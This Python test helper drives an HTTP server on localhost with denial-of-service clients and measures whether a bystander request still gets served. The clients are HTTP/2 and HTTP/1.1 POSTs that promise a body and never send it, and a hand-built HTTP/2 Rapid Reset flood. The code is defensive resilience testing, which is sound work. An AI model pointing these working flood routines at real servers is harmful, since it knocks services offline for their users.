"""Clients that try to take every worker thread of a server, and a client
that should still be served meanwhile. Imported by test_bodies.py, and a
command for the longer manual measurements:

  /usr/bin/python3 bodyattack.py h2-nobody PORT [SECONDS]    100 POST streams, no body
  /usr/bin/python3 bodyattack.py h1-nobody PORT [SECONDS]    30 POST connections, no body
  /usr/bin/python3 bodyattack.py rapid-reset PORT [SECONDS]  reconnecting rapid reset

Each prints one JSON line: what the attack did and what a bystander (GET /ok
on a new connection every 50 ms, 2 s allowed) got meanwhile. Needs Debian's
python3 (python3-h2)."""

from __future__ import print_function

import json
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
GET_TIMEOUT = 2.0


class Bystander(threading.Thread):
    """GET /ok on a new HTTP/1.1 connection every 50 ms: counts answers,
    failures (with the first reasons) and the slowest answer."""

    def __init__(self, port, path='/ok'):
        threading.Thread.__init__(self)
        self.daemon = True
        self.port, self.path = port, path
        self.stop = threading.Event()
        self.ok, self.failures, self.slowest = 0, [], 0.0

    def get(self):
        sock = socket.create_connection(('127.0.0.1', self.port), timeout=GET_TIMEOUT)
        try:
            sock.sendall(('GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'
                          % self.path).encode('ascii'))
            data = b''
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                data += chunk
        finally:
            sock.close()
        status = data.split(b' ', 2)[1] if data.startswith(b'HTTP/') else b'none'
        if status != b'200':
            raise AssertionError('status %s' % status.decode('latin-1'))

    def run(self):
        while not self.stop.is_set():
            started = time.time()
            try:
                self.get()
                self.ok += 1
            except Exception as exc:
                self.failures.append(repr(exc))
            self.slowest = max(self.slowest, time.time() - started)
            self.stop.wait(0.05)

    def finish(self):
        self.stop.set()
        self.join(GET_TIMEOUT + 1)
        return {'ok': self.ok, 'failed': len(self.failures), 'first_failures': self.failures[:3],
                'slowest_s': round(self.slowest, 3)}


class H2NoBody(object):
    """One HTTP/2 connection (prior knowledge) that opens STREAMS POST
    requests announcing a body of LENGTH bytes and sends none of it. A
    thread reads what comes back: answers (by status) and resets."""

    def __init__(self, port, streams=100, path='/read-body', length=1000):
        self.sock = socket.create_connection(('127.0.0.1', port), timeout=30)
        self.sock.settimeout(None)  # the reader waits as long as the attack lasts
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        self.lock = threading.Lock()
        self.statuses, self.resets, self.closed = {}, 0, False
        for _ in range(streams):
            stream_id = self.conn.get_next_available_stream_id()
            self.conn.send_headers(stream_id, [
                (':method', 'POST'), (':scheme', 'http'), (':authority', 'x'), (':path', path),
                ('content-length', str(length))])
        self.sock.sendall(self.conn.data_to_send())
        self.reader = threading.Thread(target=self.read)
        self.reader.daemon = True
        self.reader.start()

    def read(self):
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                with self.lock:
                    for event in self.conn.receive_data(data):
                        if isinstance(event, h2.events.ResponseReceived):
                            status = dict(event.headers).get(b':status', b'?').decode('ascii')
                            self.statuses[status] = self.statuses.get(status, 0) + 1
                        elif isinstance(event, h2.events.StreamReset):
                            self.resets += 1
                    out = self.conn.data_to_send()
                if out:
                    self.sock.sendall(out)
        except (socket.error, h2.exceptions.ProtocolError):
            pass
        self.closed = True

    def finish(self):
        with self.lock:
            result = {'answers': dict(self.statuses), 'resets': self.resets,
                      'closed_by_server': self.closed}
        try:
            self.sock.shutdown(socket.SHUT_RDWR)  # close() alone leaves the reader blocked
        except socket.error:
            pass
        self.reader.join(5)
        self.sock.close()
        return result


class H1NoBody(object):
    """CONNECTIONS HTTP/1.1 connections, each sending a POST head that
    announces a body of LENGTH bytes, and none of it. finish() says what
    each got back: a status line, or nothing."""

    def __init__(self, port, connections=30, path='/read-body', length=1000):
        self.socks = []
        head = ('POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n'
                % (path, length)).encode('ascii')
        for _ in range(connections):
            sock = socket.create_connection(('127.0.0.1', port), timeout=30)
            sock.sendall(head)
            self.socks.append(sock)

    def finish(self):
        statuses = {}
        for sock in self.socks:
            sock.setblocking(False)
            try:
                data = sock.recv(65536)
                status = data.split(b' ', 2)[1].decode('latin-1') if data else 'closed'
            except socket.error:
                status = 'none'
            statuses[status] = statuses.get(status, 0) + 1
            sock.close()
        return {'answers': statuses}


def frame(kind, flags, stream_id, payload=b''):
    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', kind, flags, stream_id) + payload


def rapid_reset(port, seconds, path='/reset-target', batch=200):
    """For SECONDS: connect, open streams (GET, END_STREAM) and reset each
    at once (RST_STREAM CANCEL) in batches until the server says GOAWAY or
    closes, then reconnect. Streams opened counts those the server took
    (the GOAWAY's last stream id), each of them reset."""
    # :method GET, :scheme http, :path PATH and :authority x, no dynamic table.
    block = (b'\x82\x86\x04' + struct.pack('B', len(path)) + path.encode('ascii') +
             b'\x01\x01x')
    cancel = struct.pack('>I', 8)
    sent = opened = connections = goaways = 0
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            sock = socket.create_connection(('127.0.0.1', port), timeout=5)
        except socket.error:
            time.sleep(0.01)
            continue
        connections += 1
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        stream_id, received, last_id = 1, b'', None
        try:
            sock.sendall(PREFACE + frame(4, 0, 0))
            while time.time() < deadline and last_id is None and stream_id < 2 ** 31 - 2 * batch:
                ids = range(stream_id, stream_id + 2 * batch, 2)
                sock.settimeout(5)
                sock.sendall(b''.join(frame(1, 5, i, block) + frame(3, 0, i, cancel) for i in ids))
                sent += batch
                stream_id += 2 * batch
                sock.settimeout(0)
                try:
                    while last_id is None:
                        got = sock.recv(1 << 20)
                        if not got:
                            raise socket.error('closed')
                        received, last_id = goaway_in(received + got)
                except (BlockingIOError, socket.timeout):
                    pass
        except socket.error:
            pass
        finally:
            sock.close()
        if last_id is not None:
            goaways += 1
            opened += (last_id + 1) // 2
        else:
            opened += (stream_id - 1) // 2
    return {'connections': connections, 'streams_sent': sent, 'streams_opened': opened,
            'streams_reset': opened, 'goaways': goaways}


def goaway_in(data):
    """Skip whole frames in DATA: (the rest, GOAWAY's last stream id or None)."""
    while len(data) >= 9:
        length = struct.unpack('>I', b'\0' + data[:3])[0]
        if len(data) < 9 + length:
            break
        if data[3:4] == b'\x07':
            return b'', struct.unpack('>I', data[9:13])[0] & 0x7fffffff
        data = data[9 + length:]
    return data, None


def app_calls(port, path):
    """The fault app's count of its calls for PATH (through /stats)."""
    sock = socket.create_connection(('127.0.0.1', port), timeout=10)
    try:
        sock.sendall(b'GET /stats HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
        data = b''
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    finally:
        sock.close()
    return json.loads(data.split(b'\r\n\r\n', 1)[1].decode('utf-8'))['calls'].get(path, 0)


def main(argv):
    mode, port = argv[1], int(argv[2])
    seconds = float(argv[3]) if len(argv) > 3 else 15.0
    path = '/reset-target' if mode == 'rapid-reset' else '/read-body'
    bystander = Bystander(port)
    before = app_calls(port, path)
    bystander.start()
    started = time.time()
    if mode == 'rapid-reset':
        result = rapid_reset(port, seconds)
    else:
        attack = H2NoBody(port) if mode == 'h2-nobody' else H1NoBody(port)
        time.sleep(seconds)
        result = attack.finish()
    result['seconds'] = round(time.time() - started, 1)
    result['bystander'] = bystander.finish()
    result['app_calls'] = app_calls(port, path) - before
    print(json.dumps(result, sort_keys=True))


if __name__ == '__main__':
    main(sys.argv)
